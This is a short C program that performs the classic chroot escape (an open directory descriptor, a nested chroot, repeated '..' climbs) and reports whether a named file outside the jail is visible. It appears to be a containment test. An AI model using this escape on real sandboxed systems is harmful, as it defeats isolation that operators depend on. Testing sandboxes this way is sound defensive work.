/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The classic way out of a chroot: keep a directory open, go into another chroot, return to the
 * first and climb. Says where it has arrived: "OUTSIDE" if the file named is there.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define LEVELS 100

int main(int argc, char **argv)
{
	mkdir("/jail", 0755);
	int top_fd = open("/", O_RDONLY | O_DIRECTORY);
	if (argc != 2 || top_fd < 0 || chroot("/jail") < 0 || fchdir(top_fd) < 0) {
		perror("climber");
		return 1;
	}
	for (int i = 0; i < LEVELS; i++)
		if (chdir("..") < 0)
			perror("..");
	if (chroot(".") < 0)
		perror("chroot");
	puts(access(argv[1], F_OK) == 0 ? "OUTSIDE" : "inside");
	return 0;
}
